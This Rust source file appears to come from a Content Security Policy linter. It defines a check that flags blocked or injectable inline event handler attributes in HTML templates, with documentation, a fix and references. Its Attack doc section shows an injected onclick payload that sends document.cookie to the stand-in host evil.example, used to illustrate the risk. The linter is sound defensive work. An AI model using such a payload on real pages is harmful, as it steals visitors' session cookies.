use crate::fetch::{Inline, InlineKind, Outcome, Reason};
use crate::lint::page_judge::{Fix, blocked};
use crate::lint::page_report::{PageContext, PageReport};
use crate::lint::report::lint;
use crate::page::{Attribute, Event, Finding, is_event_handler};
use crate::{csp::Keyword, csp::SourceExpression, diagnostic::Level};

lint! {
    /// # What it does
    ///
    /// Looks for event handler attributes, such as `onclick`, that the policy blocks. One with an expression in it is always a
    /// finding, and one that only `unsafe_inline` allows is a warning.
    ///
    /// # Why it matters
    ///
    /// Under a policy without `unsafe_inline`, the handler never runs: the button does nothing. A nonce cannot allow an
    /// attribute. In an expression, HTML escaping protects nothing: the browser decodes the value before it runs it as script.
    ///
    /// # Attack
    ///
    /// A visitor chooses an `id` that ends the call, and their own code follows:
    ///
    /// ```html
    /// <button onclick="save(1);fetch('https://evil.example/?'+document.cookie)">
    /// ```
    ///
    /// # Example
    ///
    /// ```html
    /// <button onclick="save({{ id }})">Save</button>
    /// ```
    ///
    /// # Fix
    ///
    /// Give the value to a script in a `data-` attribute, and have the script add the handler.
    ///
    /// ```html
    /// <button class="save" data-id="{{ id }}">Save</button>
    /// <script src="/js/save.js"></script>
    /// ```
    ///
    /// # Allow
    ///
    /// ```html
    /// {# security_policy: allow(template_inline_handler, reason = "this page is sent with a policy of its own") #}
    /// ```
    ///
    /// Reasonable where the page is sent with another policy than the one that it is checked against.
    ///
    /// # References
    ///
    /// - [CSP3, section 6.1.12, script-src-attr](https://w3c.github.io/webappsec-csp/#directive-script-src-attr)
    /// - [HTML, event handler content attributes](https://html.spec.whatwg.org/multipage/webappapis.html#event-handler-content-attributes)
    Deny "an event handler attribute that the policy blocks" page,
    cwe [], asvs [],
    check
}

fn check(event: &Event<'_>, context: &PageContext<'_>, report: &mut PageReport<'_>) {
    let Event::Start(element) = event else { return };
    // Browsers check the handlers of a `template` where they parse it.
    for attribute in element.attributes.iter().filter(|_| !report.state.is_in_noscript() && report.state.runs_scripts())
    {
        if let Some(name) = attribute.name.constant().filter(|name| is_event_handler(name)) {
            check_handler(name, attribute, context, report);
        }
    }
}

fn check_handler(name: &str, attribute: &Attribute<'_>, context: &PageContext<'_>, report: &mut PageReport<'_>) {
    let Some(value) = &attribute.value else { return };
    let (place, code) = (attribute.name.place, value.known());
    let handler = match code.is_complete {
        true => Inline::event_handler(&code.text),
        false => Inline::unknown(InlineKind::ScriptAttribute),
    };
    let help = format!("remove `{name}`, and call `addEventListener(\"{}\", …)` in a script", &name["on".len()..]);
    let policies = report.state.policies();
    if let Some(ruling) = blocked(policies, &handler, None) {
        let fix = Fix::new(&ruling, report.state, context);
        let message = format!("the event handler `{name}` is blocked by {}", fix.directive());
        let note = fix.note("no nonce allows an attribute, so the handler does not run");
        return report.push(Finding::new(place, message).help(help).note(note));
    }
    if !code.is_complete {
        let message = format!("an expression is part of the event handler `{name}`");
        return report.push(
            Finding::new(place, message)
                .help(format!("write the value to a `data-` attribute, {help} that reads it"))
                .note("browsers decode the attribute before they run it, so that HTML escaping does not protect it"),
        );
    }
    let decision = policies.decide(&handler);
    let mut rulings = decision.enforced().filter(|ruling| ruling.outcome() == Outcome::Allowed);
    let is_unsafe = |reason: Reason<'_>| match reason {
        Reason::Keyword(source) => source.node == SourceExpression::Keyword(Keyword::UnsafeInline),
        _ => false,
    };
    if let Some(ruling) = rulings.find(|ruling| is_unsafe(ruling.reason)) {
        let key = ruling.deciding.directive.node.key();
        let message = format!("the event handler `{name}` runs only because of `unsafe_inline` in `{key}`");
        let note = "the same keyword lets an injected handler run";
        report.push_at(Level::Warn, Finding::new(place, message).help(help).note(note));
    }
}
